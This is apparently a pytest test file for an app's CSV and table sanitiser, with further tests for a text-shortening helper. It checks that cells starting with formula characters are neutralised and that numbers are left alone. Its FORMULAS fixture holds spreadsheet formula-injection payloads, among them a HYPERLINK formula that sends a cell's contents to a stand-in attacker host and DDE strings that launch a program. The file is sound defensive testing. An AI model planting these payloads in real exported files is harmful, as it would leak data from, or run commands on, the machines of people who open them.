"""Tables that are saved as CSV: no cell of somebody else's runs in a spreadsheet, and numbers stay numbers."""

from __future__ import annotations

import ast
import csv
import io

import pandas as pd
import pytest

from app.shared import components, tables
from app.shared.tables import JOINER, as_csv, harmless
from tests.made.places import ROOT

FORMULAS = [
    '=HYPERLINK("http://attacker.example?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "  =1+1", "=1", "＝1+1", "-A1", "+", "-1 A1+B2", "\n@x",
]  # fmt: skip
NUMBERS = ["-5", "+3.1", "-1,234.5", "-1e-05", "+12 %", "-3.2%", "+4.0 percentage points"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text_in_cells_and_headings(formula):
    shown = harmless(pd.DataFrame({"a": [formula, "b"], formula: [1, 2]}))
    written = list(csv.reader(io.StringIO(shown.to_csv(index=False, quoting=csv.QUOTE_ALL), newline="")))
    assert written[0] == ["a", JOINER + formula]
    assert written[1][0] == JOINER + formula
    assert written[2] == ["b", "2"]


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_in_words_stay_as_they_are(number):
    assert tables.text(number) == number


def test_numbers_and_times_stay_what_they_are():
    frame = pd.DataFrame({"x": [-1.5, None], "n": [-1, 2], "t": pd.to_datetime(["2026-01-01", None])})
    pd.testing.assert_frame_equal(harmless(frame), frame)


def test_lists_and_what_has_no_value_are_looked_through():
    shown = harmless(pd.DataFrame({"x": [["=1", "b"], None, float("nan"), -3]}, dtype=object))
    assert shown["x"].tolist()[0] == [f"{JOINER}=1", "b"]
    assert shown["x"].tolist()[3] == -3
    assert shown["x"].isna().tolist() == [False, True, True, False]


def test_two_columns_of_one_name_are_both_seen():
    frame = pd.DataFrame([["=1", "=2"]], columns=["same", "same"])
    assert harmless(frame).to_numpy().tolist() == [[f"{JOINER}=1", f"{JOINER}=2"]]


def test_a_file_holds_what_a_table_would_show():
    frame = pd.DataFrame({"=head": ["=1+1", "a,b"], "n": [-1.5, 2.0]})
    read = pd.read_csv(io.BytesIO(as_csv(frame)))
    assert read.columns.tolist() == [f"{JOINER}=head", "n"]
    assert read.to_numpy().tolist() == [[f"{JOINER}=1+1", -1.5], ["a,b", 2.0]]


def test_every_table_of_the_app_is_shown_so():
    found = 0
    for path in (ROOT / "app").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                assert node.func.attr != "data_editor", path
                assert node.func.attr != "to_csv" or path.name == "tables.py", path
                if node.func.attr == "dataframe":
                    assert ast.unparse(node.args[0]).startswith("tables.harmless("), path
                    found += 1
    assert found > 5


def test_a_text_is_cut_between_words_where_one_ends_near_the_end():
    assert components.shortened("one two three", 13) == "one two three"
    assert components.shortened("one two three four", 13) == "one two…", "not one two thre…"
    assert components.shortened("one two, three", 9) == "one two…"
    assert components.shortened("x" * 30, 10) == "x" * 9 + "…"
    assert components.shortened("ab " + "x" * 30, 12) == "ab " + "x" * 8 + "…", "too little would be left"
    assert all(len(components.shortened("wörter " * 20, length)) <= length for length in range(2, 60))
